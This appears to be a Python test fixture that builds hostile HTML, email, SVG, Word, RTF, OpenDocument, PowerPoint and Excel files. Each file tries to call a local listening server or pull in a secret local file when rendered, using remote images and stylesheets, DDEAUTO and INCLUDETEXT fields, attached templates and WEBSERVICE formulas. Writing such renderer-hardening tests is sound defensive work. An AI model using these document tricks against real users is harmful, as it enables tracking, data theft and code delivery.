"""Documents that try to reach out when they are laid out: to a server, or to a file nearby.

Each is made for the address of a server that listens and the path of a file that is nobody's
business; `WORD` in each must be on its pages all the same, to prove that they were laid out.
"""

import base64
import io
import socket
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from pathlib import Path

WORD = "visibleword"
SECRET = "THE-SECRET-WORD"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_ML = "application/vnd.openxmlformats-officedocument"


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A server that notes who calls: its port, and the calls."""
    calls: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        done = threading.Event()

        def accept() -> None:
            while not done.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    connection.settimeout(1)
                    try:
                        calls.append(connection.recv(200))
                    except OSError:
                        calls.append(b"")

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            yield server.getsockname()[1], calls
        finally:
            done.set()
            thread.join()


def hostile_files(port: int, secret: Path) -> dict[str, bytes]:
    """Documents by type and what they try, as "docx-picture"."""
    where = f"http://127.0.0.1:{port}"
    return {
        "email-html": mail(html(where, port, secret)),
        "html-page": html(where, port, secret).encode(),
        "svg-links": svg(where, secret),
        "docx-all": docx(where, secret),
        "rtf-fields": rtf(where, secret),
        "odt-links": odt(where, secret),
        "pptx-picture": pptx(where, secret),
        "xlsx-links": xlsx(where, secret),
        "ods-links": ods(where, secret),
    }


def html(where: str, port: int, secret: Path) -> str:
    """A page with one of each way to name something elsewhere."""
    inner = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{where}/n.png"/></svg>'
    nested = base64.b64encode(inner.encode()).decode()
    file = secret.as_uri()
    return f"""<html><head><base href="{where}/"><link rel="stylesheet" href="{where}/a.css">
<link rel="attachment" href="{file}"><link rel=icon href="{where}/i"><meta http-equiv=refresh
content="0;url={where}/r"><style>@import url({where}/b.css); @font-face {{ font-family: x;
src: url({where}/f.ttf) }} body {{ background: url({where}/bg.png); font-family: x }}
li {{ list-style-image: url({where}/li.png) }} p::before {{ content: url({where}/p.png) }}
</style><script>fetch("{where}/js"); document.write("scripted")</script></head>
<body background="{where}/body.png" onload="fetch('{where}/on')"><p>{WORD}</p>
<img src="{where}/img.png"><img src="//127.0.0.1:{port}/x.png"><img srcset="{where}/s.png 2x">
<img src="{file}"><img src="relative.png"><object data="{file}"></object>
<embed src="{where}/e.svg"><iframe src="{file}"></iframe><iframe src="{where}/frame"></iframe>
<a href="{file}" rel=attachment>x</a><form action="{where}/form"><input type=image
src="{where}/input.png"></form><svg><image href="{where}/svg.png"/><use href="{where}/u.svg#a"/>
</svg><video poster="{where}/v.png" src="{where}/v.mp4"></video>
<img src="data:image/svg+xml;base64,{nested}"><ul><li>item</ul></body></html>"""


def mail(body: str) -> bytes:
    """The page as a mail's body."""
    message = EmailMessage()
    message["From"], message["Subject"] = "anna@example.com", "Prices"
    message.set_content(WORD)
    message.add_alternative(body, subtype="html")
    return message.as_bytes()


def svg(where: str, secret: Path) -> bytes:
    """A drawing that shows pictures from elsewhere."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="400" height="200"><style>@import url({where}/a.css);</style>'
        f'<text y="30">{WORD}</text><image href="{where}/i.png" width="9" height="9"/>'
        f'<image xlink:href="{secret.as_uri()}" width="9" height="9"/>'
        f'<use href="{where}/u.svg#a"/><script href="{where}/s.js"/></svg>'
    ).encode()


def _zip(members: dict[str, str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return target.getvalue()


def _relations(*rows: tuple[str, str, str, bool]) -> str:
    inner = "".join(
        f'<Relationship Id="{id_}" Type="{_TYPE}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if outside else "/>")
        for id_, kind, target, outside in rows
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_RELS}">{inner}</Relationships>'


def _types(**parts: str) -> str:
    overrides = "".join(
        f'<Override PartName="/{name.replace("__", "/")}.xml" ContentType="{_ML}.{kind}+xml"/>'
        for name, kind in parts.items()
    )
    return (
        f'<?xml version="1.0"?><Types xmlns="{_TYPES}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>'
    )


def _picture(link: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/>'
        f"<a:graphic {_A}><a:graphicData "
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic='
        '"http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" '
        f'name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{link}"/>'
        "<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:ext cx="
        '"900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def docx(where: str, secret: Path) -> bytes:
    """Linked pictures, a linked template, fields that include pictures and files, DDE."""
    fields = (
        f'INCLUDEPICTURE "{where}/field.png" \\d',
        f'INCLUDETEXT "{secret}"',
        f'INCLUDETEXT "{secret.as_uri()}"',
        f'DDEAUTO "{where}" "x" "y"',
        f'LINK Word.Document.12 "{secret}" "" \\a',
    )
    runs = "".join(
        f"<w:p><w:fldSimple w:instr='{each}'><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p>"
        for each in fields
    )
    body = (
        f"<w:p><w:r><w:t>{WORD}</w:t></w:r>{_picture('p1')}{_picture('p2')}</w:p>{runs}"
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        'style="width:90pt;height:90pt"><v:imagedata r:id="p3"/></v:shape></w:pict></w:r></w:p>'
    )
    return _zip(
        {
            "[Content_Types].xml": _types(
                word__document="wordprocessingml.document.main",
                word__settings="wordprocessingml.settings",
            ),
            "_rels/.rels": _relations(("r1", "officeDocument", "word/document.xml", False)),
            "word/document.xml": f"<w:document {_W} {_R}><w:body>{body}</w:body></w:document>",
            "word/_rels/document.xml.rels": _relations(
                ("p1", "image", f"{where}/picture.png", True),
                ("p2", "image", secret.as_uri(), True),
                ("p3", "image", f"{where}/vml.png", True),
                ("s1", "settings", "settings.xml", False),
            ),
            "word/settings.xml": f"<w:settings {_W} {_R}><w:attachedTemplate r:id='t1'/>"
            "<w:updateFields w:val='true'/></w:settings>",
            "word/_rels/settings.xml.rels": _relations(
                ("t1", "attachedTemplate", f"{where}/evil.dotm", True)
            ),
        }
    )


def rtf(where: str, secret: Path) -> bytes:
    """Fields that include, and a linked template."""
    fields = "".join(
        f"{{\\field{{\\*\\fldinst {each}}}{{\\fldrslt kept}}}}\\par "
        for each in (
            f'INCLUDEPICTURE "{where}/rtf.png" \\\\d',
            f'INCLUDETEXT "{secret}"',
            f'INCLUDETEXT "{where}/text.rtf"',
        )
    )
    return f"{{\\rtf1{{\\*\\template {where}/evil.dot}}{WORD}\\par {fields}}}".encode()


_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.3"'
)


def _open_document(kind: str, body: str) -> bytes:
    mime = f"application/vnd.oasis.opendocument.{kind}"
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return _zip(
        {
            "mimetype": mime,
            "content.xml": f"<office:document-content {_ODF}><office:body>{body}</office:body>"
            "</office:document-content>",
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{manifest}" m:version="1.3">'
            f'<m:file-entry m:full-path="/" m:media-type="{mime}"/>'
            '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>',
        }
    )


def odt(where: str, secret: Path) -> bytes:
    """Linked pictures and objects, and sections whose text is elsewhere."""
    frame = '<draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
    link = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
    body = (
        f"<office:text><text:p>{WORD}</text:p>"
        f'<text:p>{frame}<draw:image xlink:href="{where}/i.png" {link}/></draw:frame>'
        f'{frame}<draw:image xlink:href="{secret.as_uri()}" {link}/></draw:frame>'
        f'{frame}<draw:object xlink:href="{where}/o.odt" {link}/></draw:frame>'
        f'{frame}<draw:floating-frame xlink:href="{secret.as_uri()}" {link}/></draw:frame></text:p>'
        f'<text:section text:name="a"><text:section-source xlink:href="{secret.as_uri()}"/>'
        '<text:p>kept</text:p></text:section><text:section text:name="b"><text:section-source '
        f'xlink:href="{where}/s.odt"/><text:p>kept</text:p></text:section></office:text>'
    )
    return _open_document("text", body)


def ods(where: str, secret: Path) -> bytes:
    """Formulas and ranges that look elsewhere."""
    body = (
        '<office:spreadsheet><table:table table:name="A"><table:table-row>'
        f'<table:table-cell office:value-type="string"><text:p>{WORD}</text:p></table:table-cell>'
        f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{where}/w&quot;)" '
        'office:value-type="string"><text:p>kept</text:p></table:table-cell>'
        f"<table:table-cell table:formula=\"of:='{secret.as_uri()}'#$Sheet1.A1\" "
        'office:value-type="string"><text:p>kept</text:p></table:table-cell>'
        '<table:table-cell><table:cell-range-source table:name="CSV_all" '
        f'xlink:href="{secret.as_uri()}" table:filter-name="Text - txt - csv (StarCalc)" '
        'table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet>"
    )
    return _open_document("spreadsheet", body)


def pptx(where: str, secret: Path) -> bytes:
    """Linked pictures on a slide."""
    import pptx as library
    from pptx.opc.constants import RELATIONSHIP_TYPE as RT
    from pptx.util import Inches

    presentation = library.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[5])
    slide.shapes.title.text = WORD
    png = base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJg"
        "gg=="
    )
    for target in (f"{where}/slide.png", secret.as_uri()):
        picture = slide.shapes.add_picture(io.BytesIO(png), Inches(1), Inches(2), Inches(1))
        blip = picture._element.blipFill.find(
            ".//{http://schemas.openxmlformats.org/drawingml/2006/main}blip"
        )
        namespace = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
        blip.attrib.pop(f"{namespace}embed")
        blip.set(f"{namespace}link", slide.part.relate_to(target, RT.IMAGE, is_external=True))
    data = io.BytesIO()
    presentation.save(data)
    return data.getvalue()


def xlsx(where: str, secret: Path) -> bytes:
    """Formulas that look elsewhere, and a link to another workbook."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.create_sheet("A", 0)
    sheet["A1"] = WORD
    sheet["A2"] = f'=_xlfn.WEBSERVICE("{where}/w")'
    sheet["A3"] = f"='{secret.parent}/[{secret.name}]Sheet1'!A1"
    sheet["A4"] = f'=HYPERLINK("{where}/h","kept")'
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()
